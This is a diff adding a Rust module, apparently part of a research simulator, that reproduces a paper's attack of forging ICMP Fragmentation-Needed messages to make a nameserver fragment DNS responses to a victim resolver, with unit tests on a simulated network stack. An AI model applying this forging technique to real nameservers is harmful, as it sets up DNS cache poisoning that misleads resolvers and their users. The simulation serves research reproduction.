@@ -1,0 +1,94 @@
+//! Forging ICMP Fragmentation-Needed to force a nameserver to fragment
+//! (paper §III-1).
+//!
+//! The attacker tells the nameserver that the path towards the victim
+//! resolver only supports a small MTU. The embedded "original datagram"
+//! header is fabricated: a plausible UDP packet from the nameserver (port
+//! 53) to the resolver. Upon receipt the nameserver's stack records the
+//! path MTU and fragments subsequent DNS responses to the resolver.
+
+use std::net::Ipv4Addr;
+
+use bytes::Bytes;
+use netsim::icmp::IcmpMessage;
+use netsim::ipv4::Ipv4Packet;
+use netsim::udp::UdpDatagram;
+
+/// The MTU the paper's attack forces (the common minimum the measured
+/// nameservers honour — Fig. 5's 83.2 % step).
+pub const FORCED_MTU: u16 = 548;
+
+/// Builds the forged ICMP frag-needed message claiming that a DNS response
+/// from `nameserver` to `resolver` did not fit into `mtu` bytes.
+///
+/// The embedded original is a syntactically valid IPv4 header + 8 UDP
+/// header bytes (sport 53), which is all RFC 792 requires and all real
+/// stacks check.
+pub fn forge_frag_needed(nameserver: Ipv4Addr, resolver: Ipv4Addr, mtu: u16) -> IcmpMessage {
+    let stub_udp = UdpDatagram::new(53, 33_000, Bytes::new())
+        .encode(nameserver, resolver)
+        .expect("8-byte datagram encodes");
+    let embedded = Ipv4Packet::udp(nameserver, resolver, 0, stub_udp)
+        .encode()
+        .expect("28-byte packet encodes");
+    IcmpMessage::FragmentationNeeded { mtu, original: embedded }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use netsim::os::OsProfile;
+    use netsim::sim::NetStack;
+    use netsim::time::SimTime;
+    use rand::rngs::SmallRng;
+    use rand::SeedableRng;
+
+    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
+    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
+
+    #[test]
+    fn forged_icmp_lowers_ns_path_mtu() {
+        let mut stack = NetStack::new(OsProfile::nameserver(548));
+        let mut rng = SmallRng::seed_from_u64(1);
+        // Deliver the forged ICMP to the nameserver's stack.
+        let msg = forge_frag_needed(NS, RESOLVER, FORCED_MTU);
+        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
+        let out = stack.receive(SimTime::ZERO, &pkt);
+        assert!(out.is_some(), "ICMP must reach the host layer");
+        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), FORCED_MTU);
+        // A large DNS response towards the resolver now fragments.
+        let big = UdpDatagram::new(53, 33000, Bytes::from(vec![0u8; 900]));
+        let frags = stack.send_udp(SimTime::ZERO, NS, RESOLVER, &big, &mut rng);
+        assert_eq!(frags.len(), 2, "900-byte payload fragments in two at MTU 548");
+        assert!(frags.iter().all(|f| f.wire_len() <= usize::from(FORCED_MTU)));
+    }
+
+    #[test]
+    fn claim_below_ns_floor_is_clamped() {
+        let mut stack = NetStack::new(OsProfile::nameserver(548));
+        let msg = forge_frag_needed(NS, RESOLVER, 68);
+        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
+        stack.receive(SimTime::ZERO, &pkt);
+        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 548);
+    }
+
+    #[test]
+    fn icmp_with_foreign_embedded_source_ignored() {
+        // The embedded original claims someone ELSE sent the too-big packet:
+        // the nameserver must not update its own path MTU.
+        let mut stack = NetStack::new(OsProfile::nameserver(548));
+        let msg = forge_frag_needed("203.0.113.9".parse().unwrap(), RESOLVER, FORCED_MTU);
+        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
+        stack.receive(SimTime::ZERO, &pkt);
+        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 1500);
+    }
+
+    #[test]
+    fn pmtud_ignoring_ns_unaffected() {
+        let mut stack = NetStack::new(OsProfile::nameserver_no_pmtud());
+        let msg = forge_frag_needed(NS, RESOLVER, FORCED_MTU);
+        let pkt = Ipv4Packet::icmp("203.0.113.66".parse().unwrap(), NS, 9, msg.encode());
+        stack.receive(SimTime::ZERO, &pkt);
+        assert_eq!(stack.mtu_towards(SimTime::ZERO, RESOLVER), 1500);
+    }
+}
